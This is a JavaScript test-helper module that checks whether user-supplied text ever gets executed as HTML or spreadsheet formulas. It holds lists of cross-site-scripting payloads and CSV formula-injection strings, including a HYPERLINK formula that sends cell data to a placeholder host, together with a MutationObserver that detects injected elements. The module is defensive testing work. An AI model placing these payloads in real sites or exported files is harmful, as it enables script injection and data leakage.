// Texts that would do something if anything took them for more than text, and a watch over what becomes of them.
import assert from "node:assert/strict";
import { drawn } from "./flows.mjs";

/** What a page would run or fetch if it took a text for markup. Each tells by `window.hacked` that it was run. */
export const MARKUP = [
  "<img src=x onerror=hacked()>",
  "\"><svg onload=hacked()>",
  "'><iframe srcdoc='<script>parent.hacked()</script>'>",
  "<script>hacked()</script>",
  "</title><style>*{display:none}</style>",
  "javascript:hacked()",
  "<a href=javascript:hacked()>示例</a>",
  "{{constructor.constructor('hacked()')()}}",
];

/** What a spreadsheet would work out, or hand to another program, if it took a text for a formula. */
export const FORMULAS = [
  "=HYPERLINK(\"http://elsewhere.invalid/\"&A1,\"示例\")",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

/** What a text begins with that a spreadsheet may take for a formula. */
export const BEGINS_FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;

/**
 * Has every page of a context remember what was ever put into it that a text has no right to bring: elements that
 * fetch or run something, attributes that are scripts, addresses that are.
 */
export async function watchMarkup(context) {
  await context.addInitScript(() => {
    window.hacked = () => found.push("a script of a text was run");
    const found = [];
    window.intruders = found;
    const look = (element) => {
      // What stands in the head is the site's own.
      if (!document.body?.contains(element)) return;
      if (/^(img|script|style|iframe|object|embed|link|meta|base|video|audio|source|foreignObject|animate|set)$/i.test(element.localName)) {
        found.push(element.outerHTML);
      }
      for (const { name, value } of element.attributes) {
        const address = /^(href|src|action|formaction|xlink:href|srcdoc|data)$/.test(name) && /^\s*(javascript|data|vbscript):/i.test(value);
        if (/^on/i.test(name) || address) found.push(`${name}=${value}`);
      }
    };
    new MutationObserver((changes) => {
      for (const { type, target, addedNodes } of changes) {
        if (type === "attributes") look(target);
        for (const node of addedNodes) {
          if (node.nodeType !== Node.ELEMENT_NODE) continue;
          look(node);
          node.querySelectorAll("*").forEach(look);
        }
      }
    }).observe(document, { subtree: true, childList: true, attributes: true });
  });
}

/** Asserts that no text has become more than text so far. */
export async function assertInert(page) {
  // What is put in is noticed by the time that it is drawn; what it would run has run once the page has nothing else to do.
  await drawn(page);
  assert.deepEqual(await page.evaluate(() => window.intruders), [], page.url());
}

/** The rows of a CSV file, as its fields say them. */
export function readCsv(text) {
  const rows = [[""]];
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const letter = text[at];
    const row = rows.at(-1);
    if (letter === '"') {
      if (quoted && text[at + 1] === '"') row[row.length - 1] += text[at++];
      else quoted = !quoted;
    } else if (letter === "," && !quoted) row.push("");
    else if (letter === "\n" && !quoted) rows.push([""]);
    else if (letter !== "\r" || quoted) row[row.length - 1] += letter;
  }
  return rows;
}
